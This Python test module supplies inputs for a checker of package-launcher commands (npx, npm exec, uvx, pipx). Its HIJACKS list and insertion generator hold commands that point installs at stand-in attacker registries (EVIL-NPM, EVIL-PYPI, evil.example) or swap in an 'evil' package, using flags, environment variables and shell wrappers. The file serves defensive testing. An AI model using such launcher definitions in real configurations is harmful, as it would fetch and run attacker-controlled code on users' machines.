# SPDX-License-Identifier: Apache-2.0
"""What the launch check runs: definitions that are approved, hijacks that are known, and a sample of mutants.

`EVIL-NPM`, `EVIL-PYPI` stand for the URLs of the EVIL servers. Hijacks are those of launchers.md 2 and 4, each found by
running it.
"""

import random

from tests.fuzz.approval import APPROVED, KEYS, OPTIONS, build, judge, mutant
from tests.fuzz.choices import Choices

NPM, PYPI = "@acme/tool@1.2.0", "acme-tool@1.2.0"
RUNNABLE = {"npx", "npm", "uvx", "uv", "pipx"}
WRAPPERS = {"env", "sh", "bash", "timeout", "nohup", "nice", "stdbuf"}
HIJACKS = [
    (["npx", "-y", "--registry", "EVIL-NPM", NPM], {}),
    (["npx", "-y", "--regist=EVIL-NPM", NPM], {}),
    (["npx", "-yq", NPM, "--registry=EVIL-NPM"], {}),
    (["npx", "-y", "--no-audit", NPM, "--registry=EVIL-NPM"], {}),
    (["npx", "-y", "-q=evil@1.0.0", NPM], {}),
    (["npx", "-y", "@acme/tool@npm:evil@1.0.0"], {}),
    (["npx", "-y", "@acme/tool"], {}),
    (["npm", "exec", "-y", NPM, "--registry=EVIL-NPM"], {}),
    (["npx", "-y", NPM], {"npm_config_registry": "EVIL-NPM"}),
    (["npx", "-y", NPM], {"NPM_CONFIG_@acme:registry": "EVIL-NPM"}),
    (["env", "NPM_CONFIG_REGISTRY=EVIL-NPM", "npx", "-y", NPM], {}),
    (["sh", "-c", f"NPM_CONFIG_REGISTRY=EVIL-NPM npx -y {NPM}"], {}),
    (["uvx", "--default-index", "EVIL-PYPI", PYPI], {}),
    (["uvx", "--index", "EVIL-PYPI", PYPI], {}),
    (["uvx", "--from", "evil", "evil"], {}),
    (["uvx", PYPI], {"UV_DEFAULT_INDEX": "EVIL-PYPI"}),
    (["uvx", PYPI], {"uv_index": "x", "UV_INDEX": "EVIL-PYPI"}),
    (["uvx", "acme-tool"], {}),
    (["pipx", "run", "--index-url", "EVIL-PYPI", "acme-tool==1.2.0"], {}),
]  # fmt: skip


def hijacks():
    return [build(words, list(env.items())) for words, env in HIJACKS]


def approved():
    """The approved definitions of the launchers that can be run here."""
    return [build(words) for words in APPROVED if program(words) in RUNNABLE]


def program(words):
    """The launcher behind wrappers, as far as it can be seen; "" for one that is never run here."""
    words = [part for word in words for part in word.split()]
    for word in words:
        name = word.rpartition("/")[2]
        if name in RUNNABLE:
            return name
        if name not in WRAPPERS and not name[:1].isdigit() and name[:1] not in "-A" and name != "exec":
            return ""
    return ""


def mutants(count, seed, launcher):
    """Approved mutants of one launcher, all different, none of which can start anything but it."""
    dice, found = random.Random(seed), {}
    for _ in range(60_000):
        one = mutant(Choices(dice.randbytes(48)))
        words = (one.command, *one.args)
        if (
            one.transport == "http"
            or program(words) != launcher
            or any("\0" in word for word in words)
            or one.cwd
        ):
            continue
        if (words, one.env) not in found and judge().judge(one).kind == "approved":
            found[words, one.env] = one
        if len(found) >= count:
            break
    return list(found.values())


def insertions(count, seed):
    """Options put in before the package: approved or not, whatever they are; none names the outside or a shell."""
    dice, out = random.Random(seed), []
    options = [
        word
        for word in OPTIONS
        if "git" not in word and word not in {"-c", "--call", "--call=id", "exec", "run"}
    ]
    lines = [
        ["npx", "-y", NPM, "--registry=EVIL-NPM"],
        ["npx", NPM, "--package=evil@1.0.0"],
        ["uvx", PYPI],
        ["npx", "-y", NPM],
    ]
    for _ in range(count):
        words = list(dice.choice(lines))
        for _ in range(dice.choice([1, 1, 2])):
            words.insert(dice.randint(1, len(words) - 1), dice.choice(options))
        words = [word.replace("https://evil.example", "EVIL-NPM" if words[0] == "npx" else "EVIL-PYPI").replace("https://e", "EVIL-PYPI") for word in words]  # fmt: skip
        env = [(dice.choice(KEYS[:12]), "x")] if dice.random() < 0.1 else []
        out.append(build(words, env))
    return out
